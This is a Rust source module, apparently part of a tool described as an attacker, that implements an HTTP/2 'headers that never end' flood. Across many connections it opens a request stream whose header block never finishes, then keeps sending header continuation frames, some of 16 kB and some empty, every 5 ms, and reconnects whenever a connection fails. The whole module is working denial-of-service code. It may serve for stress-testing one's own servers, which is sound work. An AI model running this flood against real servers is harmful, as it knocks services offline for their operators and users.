//! HTTP/2 headers that never end.

use std::{io, time::Duration};

use tokio::{
    task::JoinSet,
    time::{interval, sleep},
};

use super::{attacker::Plan, frames::Frames};

/// Half of the connections send a header of 16 kB in each frame, the others empty frames; each 200
/// frames a second, until the server has enough.
pub(super) fn start(plan: &Plan, tasks: &mut JoinSet<()>) {
    for number in 0..plan.connections {
        let plan = plan.clone();
        let bytes = if number % 2 == 0 { 16_000 } else { 0 };
        tasks.spawn(async move {
            loop {
                let mut sent = 0;
                if let Err(error) = go_on(&plan, bytes, &mut sent).await {
                    plan.tally.answer(format!("{error} after {sent} frames of {bytes} B"));
                }
                sleep(Duration::from_millis(100)).await;
            }
        });
    }
}

async fn go_on(plan: &Plan, bytes: usize, sent: &mut usize) -> io::Result<()> {
    let mut frames = Frames::open(plan.address, 65_535).await?;
    // Nothing may come between the frames of a head, the answer to the server's settings neither.
    frames.greeted().await?;
    let stream = frames.get_without_end("/ready").await?;
    let mut ticks = interval(Duration::from_millis(5));
    loop {
        ticks.tick().await;
        plan.tally.request();
        frames.go_on(stream, bytes).await?;
        *sent += 1;
        frames.catch_up().await?;
    }
}
